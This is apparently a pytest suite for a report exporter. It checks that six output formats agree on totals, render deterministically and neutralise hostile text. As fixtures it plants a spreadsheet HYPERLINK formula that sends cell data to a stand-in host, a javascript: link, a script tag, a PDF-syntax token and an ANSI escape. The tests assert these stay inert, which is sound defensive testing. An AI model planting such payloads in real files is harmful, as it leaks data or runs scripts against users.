"""One report in six forms: the same totals in each, the same bytes each time, and hostile text inert in all of them."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader

from ekin_tui.config.report import Letter
from ekin_tui.desk.report_views import Report
from ekin_tui.domain.calendar import Month
from ekin_tui.domain.model import Action, Capacity, Note, Rhk, Status
from ekin_tui.exchange.report.latin import latin, spoilt
from ekin_tui.text import Words
from tests.office import BUDI, WITA, Office, as_received, make_entry, office

FORMS = ("text", "pdf", "xlsx", "csv", "md", "json")
FORMULA = '=HYPERLINK("http://jahat.example/?"&A1;"klik")'
LONG = "Memeriksa " + "berkas " * 60 + "hingga selesai"
EVIL = "| [klik](javascript:alert(1)) <script>alert(2)</script> **tebal** ![x](http://x) `a` {nb} (a\\) endobj"


@pytest.fixture(scope="module")
def siti(tmp_path_factory: pytest.TempPathFactory) -> Office:
    behind = office(tmp_path_factory.mktemp("siti"))
    texts = (
        FORMULA,
        "+1 surat",
        "-2 surat",
        "@impor",
        EVIL,
        LONG,
        "Rapat \u4e2d\u6587 \u2265 5 \u201ckutip\u201d \x1b[2J",
        "https://" + "x" * 1_900,
    )
    with behind.store.writing():
        for number, text in enumerate(texts):
            entry = replace(make_entry(number, date(2026, 11, 10)), id=f"odd-{number}", activity=text)
            behind.store.entries.take(as_received(entry, Status.APPROVED, evidence=text if number == 7 else ""))
        behind.store.notes.take(
            Note(
                id="evil", entry="odd-4", kind=Action.NOTE, text=f"{EVIL}\n{FORMULA}", by=BUDI.id, name="=Budi|<b>",
                capacity=Capacity.HOLDER, at=datetime(2026, 11, 11, 9, tzinfo=WITA),
            )
        )  # fmt: skip
        behind.store.reference.put(Rhk(id="rhk-p-siti", skp="skp-p-siti", text=f"Arsip <b>| {FORMULA}"))
    return behind


@pytest.fixture(scope="module")
def month(siti: Office) -> Report:
    return siti.desk.reporting.month(Month(2026, 11))


@pytest.fixture(scope="module")
def year(siti: Office) -> Report:
    return siti.desk.reporting.year(2026)


def rendered(siti: Office, report: Report, form: str, lang: str = "id", **letter: str) -> bytes:
    return siti.desk.reporting.render(report, form, Words(lang), Letter(**letter))


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def totals_in(form: str, data: bytes) -> dict[str, int]:
    """Return claimed, recognised and offered minutes as they can be read out of a file of ``form``."""
    names = {
        "claimed": "Dilaporkan dan diterima pusat",
        "recognised": "Menit diakui atasan",
        "undecided": "Menit belum diputuskan",
        "offered": "Waktu kerja yang tersedia dalam periode ini",
        "fixed": "Target tetap instansi",
    }
    if form == "json":
        found = json.loads(data)["totals"]
        keys = ("claimed_minutes", "recognised_minutes", "undecided_minutes", "target_minutes", "fixed_target")
        return dict(zip(names, (found[key] for key in keys), strict=True))
    if form == "csv":
        rows = [row for row in csv.reader(io.StringIO(data.decode())) if row[0] == "totals"]
        return {row[1]: int(row[4]) for row in rows if row[1] in names}
    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        return {name: next(row[2] for row in rows if row[0] == label) for name, label in names.items()}
    text = pdf_text(data) if form == "pdf" else data.decode()
    found = {}
    for name, label in names.items():
        figures = re.search(rf"{label}[^\d\n-]*\n?([\d.\s|-]+)", text)
        assert figures is not None, label
        numbers = re.findall(r"\d[\d.]*", figures[1].split("\n")[0] if form != "pdf" else figures[1])
        found[name] = int(numbers[1 if name == "claimed" else 0].replace(".", ""))
    return found


@pytest.mark.parametrize("span", ["month", "year"])
def test_the_totals_are_the_same_in_every_form(siti: Office, span: str, request: pytest.FixtureRequest) -> None:
    report: Report = request.getfixturevalue(span)
    sums, offer = report.tally, report.offer
    wanted = {
        "claimed": sums.claimed, "recognised": sums.recognised, "undecided": sums.undecided,
        "offered": offer.whole, "fixed": offer.fixed,
    }  # fmt: skip
    for form in FORMS:
        assert totals_in(form, rendered(siti, report, form)) == wanted, form


@pytest.mark.parametrize("form", FORMS)
def test_the_same_record_at_the_same_moment_gives_the_same_bytes(siti: Office, month: Report, form: str) -> None:
    first, again = (rendered(siti, month, form) for _ in range(2))
    assert first == again


@pytest.mark.parametrize("days", range(1, 17))
def test_signatures_stand_under_rows_of_what_they_are_for(tmp_path: Path, days: int) -> None:
    place = office(tmp_path, filled=False)
    with place.store.writing():
        for number in range(days * 3):
            entry = make_entry(number % 3, date(2026, 11, 2 + number // 3), id=f"n-{number}")
            place.store.entries.take(as_received(entry, Status.APPROVED))
    data = rendered(place, place.desk.reporting.month(Month(2026, 11)), "pdf")
    last = PdfReader(io.BytesIO(data)).pages[-1].extract_text()
    assert "Mengetahui," in last
    assert "Jumlah entri yang dilaporkan" in last
    assert "disetujui" in last


@pytest.mark.parametrize("lines", range(1, 6))
def test_the_first_page_is_used_whatever_stands_at_its_head(siti: Office, month: Report, lines: int) -> None:
    head = "\n".join(f"Baris kepala surat {number}" for number in range(lines))
    first = PdfReader(io.BytesIO(rendered(siti, month, "pdf", letterhead=head))).pages[0].extract_text()
    assert "D. Kedisiplinan" in first


@pytest.mark.parametrize("form", ["text", "md", "csv", "xlsx", "pdf"])
def test_what_is_said_before_a_table_stands_in_every_form(tmp_path: Path, form: str) -> None:
    place = office(tmp_path)
    with place.store.writing():
        place.store.entries.take(as_received(make_entry(0, date(2026, 11, 10), id="no"), Status.REJECTED))
    data = rendered(place, place.desk.reporting.month(Month(2026, 11)), form)
    if form == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        text = " ".join(
            str(cell) for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row if cell
        )
    else:
        text = pdf_text(data) if form == "pdf" else data.decode()
    said = " ".join(text.replace("\\", "").split())
    for key in ("report.rhk.lead", "report.plan.lead"):
        assert " ".join(Words("id")(key).split()) in said


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_what_begins_like_a_formula_is_text(siti: Office, month: Report, form: str) -> None:
    data = rendered(siti, month, form)
    if form == "csv":
        cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
        assert f"'{FORMULA}" in cells
        assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
        return
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert FORMULA in [cell.value for cell in found]
    assert {cell.data_type for cell in found} <= {"s", "n", "d"}
    assert all(cell.quotePrefix for cell in found if cell.value == FORMULA)


def test_a_text_that_looks_like_the_number_of_a_character_stays_in_a_workbook(siti: Office, month: Report) -> None:
    data = siti.desk.reporting.render(month, "xlsx", Words("id"), Letter(supervisor="Kode _x0041_ huruf"))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        held = b"".join(book.read(name) for name in book.namelist())
    assert b"Kode _x005F_x0041_ huruf" in held
    assert b"Kode _x0041_" not in held


def test_a_workbook_has_numbers_days_and_a_sheet_for_each_list(siti: Office, year: Report) -> None:
    book = openpyxl.load_workbook(io.BytesIO(rendered(siti, year, "xlsx")))
    assert book.sheetnames[1:] == [
        "Rencana hasil kerja (RHK)", "Keluaran tiap rencana aksi", "Menurut bulan", "Menurut hari", "Kegiatan",
        "Catatan",
    ]  # fmt: skip
    entries = list(book["Kegiatan"].iter_rows(min_row=2, values_only=True))
    assert len(entries) == len(year.works)
    assert sum(row[12] for row in entries) == sum(work.entry.minutes for work in year.works)
    assert {type(row[1]) for row in entries} == {datetime}
    assert book["Kegiatan"].freeze_panes == "A2"
    assert len(list(book["Menurut hari"].iter_rows(min_row=2))) == 366


def test_markdown_holds_no_markup_link_or_html_of_others(siti: Office, month: Report) -> None:
    text = rendered(siti, month, "md").decode()
    assert "<script" not in text
    assert re.findall(r"(?<!\\)[\[\]`]", text.replace("```", "")) == []
    assert re.search(r"https?://", text) is None
    assert "**tebal**" not in text
    rows = [line for line in text.splitlines() if line.startswith("|") and "tebal" in line]
    assert rows
    assert all(len(re.findall(r"(?<!\\)\|", row)) == 9 for row in rows)


@pytest.mark.parametrize("form", ["text", "md", "csv", "json"])
def test_no_form_of_text_holds_a_control_character(siti: Office, month: Report, form: str) -> None:
    text = rendered(siti, month, form).decode()
    assert [char for char in text if not char.isprintable() and char not in "\r\n"] == []


def test_a_page_shows_what_its_fonts_lack_by_number_and_says_so(siti: Office, month: Report) -> None:
    text = pdf_text(rendered(siti, month, "pdf"))
    assert "[U+4E2D][U+6587] >= 5 “kutip”" in " ".join(text.split())
    assert "[U+...]" in text
    assert "{nb}" in text
    assert latin("Café — Ćirić") == "Café — Ciric"
    assert not spoilt("Ćirić")


def test_every_page_bears_number_and_trace_and_a_table_its_head(siti: Office, month: Report) -> None:
    data = rendered(siti, month, "pdf")
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]
    for number, text in enumerate(pages, 1):
        assert f"Halaman {number} dari {len(pages)}" in text
        assert "Belum ada catatan yang berjejak" in text
    inside = [text for text in pages if "08.00-09.30" in text]
    assert len(inside) > 1
    assert all("Kegiatan harian" in text for text in inside)


def test_nothing_of_a_long_text_is_lost_on_paper(siti: Office, month: Report) -> None:
    text = "".join(pdf_text(rendered(siti, month, "pdf")).split())
    assert "x" * 500 in "".join(re.findall(r"x{5,}", text))
    assert text.count("berkas") >= 60
    assert len("".join(re.findall(r"x{5,}", text))) >= 2 * 1_850


def test_the_letter_names_office_place_and_who_signs(siti: Office, month: Report) -> None:
    settings = {
        "letterhead": "Pemerintah Kota Contoh\nDinas Kearsipan\nJalan Merdeka 1", "place": "Kota Contoh",
        "supervisor": "Dr. Rina Lestari", "supervisor_nip": "197001011995032001", "supervisor_post": "Plt. Kepala",
    }  # fmt: skip
    for form in ("pdf", "text", "md"):
        data = rendered(siti, month, form, **settings)
        text = (pdf_text(data) if form == "pdf" else data.decode()).replace("\\", "")
        for part in (
            "KOTA CONTOH" if form == "pdf" else "Kota Contoh",
            "Kota Contoh, 25 November 2026",
            "Dr. Rina Lestari",
            "19700101 199503 2 001",
        ):
            assert part in text, (form, part)


@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize("span", ["month", "year"])
def test_every_note_is_there_in_full_in_both_languages(
    siti: Office, lang: str, span: str, request: pytest.FixtureRequest
) -> None:
    report: Report = request.getfixturevalue(span)
    said = "Mohon lampirkan tautan daftar arsip dan sebutkan jumlah boks."
    for form in FORMS:
        data = rendered(siti, report, form, lang)
        if form == "xlsx":
            sheets = openpyxl.load_workbook(io.BytesIO(data)).worksheets
            text = " ".join(str(cell) for row in sheets[-1].iter_rows(values_only=True) for cell in row)
        else:
            text = pdf_text(data) if form == "pdf" else data.decode()
        assert said in " ".join(text.replace("\\", "").split()), (form, lang)
        assert "Budi Hartono" in text


def test_json_has_the_keys_that_are_documented(siti: Office, month: Report, year: Report) -> None:
    page = Path(__file__).parents[2].joinpath("docs", "report.md").read_text(encoding="utf-8")
    for report in (month, year):
        for key in sorted(set(_keys(json.loads(rendered(siti, report, "json"))))):
            assert f"`{key}`" in page, key


def _keys(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [*value, *(key for one in value.values() for key in _keys(one))]
    return [key for one in value for key in _keys(one)] if isinstance(value, list) else []
